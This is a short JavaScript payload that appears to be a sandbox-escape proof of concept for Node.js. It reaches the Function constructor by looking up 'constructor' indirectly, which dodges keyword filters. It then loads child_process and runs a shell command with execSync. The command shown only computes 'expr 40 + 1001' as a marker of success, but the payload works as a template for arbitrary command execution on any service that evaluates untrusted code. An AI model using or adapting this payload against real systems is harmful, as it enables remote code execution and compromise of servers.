const get=(o,k)=>o[k]; const k=Object.getOwnPropertyNames(Object.prototype)[0];
get(get('',k),k)('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
